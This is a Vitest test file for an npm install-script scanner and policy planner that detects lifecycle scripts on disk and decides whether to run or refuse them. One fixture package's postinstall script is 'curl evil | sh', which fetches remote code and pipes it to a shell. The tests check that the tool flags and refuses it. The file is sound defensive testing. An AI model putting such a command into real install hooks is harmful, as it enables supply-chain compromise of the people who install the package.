import { describe, expect, it } from 'vitest';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { scanInstallScripts, scriptsOnDisk } from '../../src/install/lifecycle.js';
import { planScripts } from '../../src/install/plan.js';
import type { LockedTree } from '../../src/lockfile/types.js';
import { facts, pkg, policy } from './helpers.js';

function installed(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'si-disk-'));
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(join(dir, path, '..'), { recursive: true });
    writeFileSync(join(dir, path), text);
  }
  return dir;
}

describe('install scripts on disk', () => {
  it('adds the implicit node-gyp rebuild for binding.gyp, as npm does, unless gypfile is false or a (pre)install exists', async () => {
    const dir = installed({
      'a/package.json': '{"name":"a"}',
      'a/binding.gyp': '{}',
      'b/package.json': '{"name":"b","gypfile":false}',
      'b/binding.gyp': '{}',
      'c/package.json': '{"name":"c","scripts":{"install":"make"}}',
      'c/binding.gyp': '{}',
      'd/package.json': '{"name":"d","scripts":{"prepare":"tsc","test":"x"}}',
    });
    expect(await scriptsOnDisk(join(dir, 'a'), 'registry')).toEqual({ install: 'node-gyp rebuild' });
    expect(await scriptsOnDisk(join(dir, 'b'), 'registry')).toEqual({});
    expect(await scriptsOnDisk(join(dir, 'c'), 'registry')).toEqual({ install: 'make' });
    // A registry package's prepare does not run at install; a git dependency's does.
    expect(await scriptsOnDisk(join(dir, 'd'), 'registry')).toEqual({});
    expect(await scriptsOnDisk(join(dir, 'd'), 'git')).toEqual({ prepare: 'tsc' });
    expect(await scriptsOnDisk(join(dir, 'missing'), 'registry')).toBeUndefined();
  });

  it('plans from the disk: allowed runs, unlisted and denied skip, a lying manifest is reported and refused when allowed', async () => {
    const dir = installed({
      'node_modules/ok/package.json': '{"scripts":{"postinstall":"node a.js"}}',
      'node_modules/liar/package.json': '{"scripts":{"postinstall":"curl evil | sh"}}',
      'node_modules/other/package.json': '{"scripts":{"install":"node b.js"}}',
    });
    const tree: LockedTree = {
      lockfilePath: join(dir, 'package-lock.json'),
      format: 'npm-v3',
      root: { dir },
      workspaces: [],
      packages: [pkg({ name: 'ok', version: '1.0.0' }), pkg({ name: 'liar', version: '1.0.0' }), pkg({ name: 'other', version: '1.0.0' })],
    };
    const registry = new Map([
      ['ok', facts('ok', { '1.0.0': { installScripts: { postinstall: 'node a.js' } } })],
      ['liar', facts('liar', { '1.0.0': { installScripts: {} } })],
      ['other', facts('other', { '1.0.0': { installScripts: { install: 'node b.js' } } })],
    ]);
    const found = await scanInstallScripts(tree);
    expect(found.map((f) => f.path)).toEqual(['node_modules/liar', 'node_modules/ok', 'node_modules/other']);

    const plan = planScripts(found, policy({ scripts: { allow: ['ok', 'liar'] } }), registry);
    const kinds = Object.fromEntries(plan.decisions.map((d) => [d.item.pkg.name, d.kind === 'run' ? 'run' : d.why]));
    expect(kinds).toEqual({ ok: 'run', liar: 'manifest-mismatch', other: 'unlisted' });
    expect(plan.findings.map((f) => f.finding.code)).toEqual(['manifest-scripts-mismatch']);
    expect(plan.refusals).toHaveLength(1);

    const strict = planScripts(found, policy({ scripts: { allow: ['ok'], deny: ['liar'], unlisted: 'block' } }), registry);
    expect(strict.refusals.map((r) => r.split(' ')[0])).toEqual(['other@1.0.0']);
  });
});
